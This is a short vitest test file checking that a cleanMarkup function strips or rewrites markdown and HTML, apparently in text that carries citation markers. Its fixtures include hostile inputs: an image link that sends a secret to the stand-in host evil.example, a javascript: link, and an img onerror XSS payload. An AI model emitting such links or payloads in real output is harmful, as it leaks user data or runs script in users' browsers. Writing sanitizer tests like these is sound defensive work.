import { expect, it } from 'vitest';
import { cleanMarkup } from './cleanMarkup.ts';

it.each([
  ['See ![map](https://evil.example/?q=secret) here [1].', 'See  here [1].'],
  ['![x][ref] Hello', ' Hello'],
  ['Read [our help](https://fern.example/help) [2].', 'Read our help (https://fern.example/help) [2].'],
  ['[Click](javascript:alert(1)) me', 'Click) me'],
  ['<img src=x onerror=alert(1)>Hi<script', 'Hi'],
  ['3 < 5 and [1] stays', '3 < 5 and [1] stays'],
])('makes %j to %j', (sentence, clean) => {
  expect(cleanMarkup(sentence)).toBe(clean);
});
